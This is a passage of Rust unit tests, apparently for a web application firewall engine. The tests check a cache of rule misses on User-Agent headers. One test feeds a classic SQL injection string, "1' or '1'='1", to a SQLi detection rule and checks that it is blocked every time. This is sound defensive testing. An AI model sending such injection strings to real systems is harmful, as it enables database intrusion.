            assert_eq!(run("Scanner123"), Some(1));
        }
        assert!(!known.missed(known.fingerprint(b"scanner123"), memo));
    }

    #[test]
    fn request_head_misses_are_remembered_across_transactions() {
        let engine = Engine::from_text(
            "SecRuleEngine On\n\
             SecRule REQUEST_HEADERS:User-Agent \"@detectSQLi\" \"id:1,phase:1,deny,t:none\"",
            "t.conf",
        )
        .unwrap();
        let run = |ua: &str| stopped_by_user_agent(&engine, ua);
        let kept = || {
            engine
                .rules()
                .known_misses
                .table
                .iter()
                .filter(|s| s.load(std::sync::atomic::Ordering::Relaxed) != 0)
                .count()
        };
        assert_eq!(run("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101"), None);
        assert_eq!(kept(), 1);
        assert_eq!(run("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101"), None);
        assert_eq!(kept(), 1);
        // A match is never remembered: the same attack is stopped every time.
        for _ in 0..2 {
            assert_eq!(run("1' or '1'='1"), Some(1));
        }
        assert_eq!(kept(), 1);
    }
}
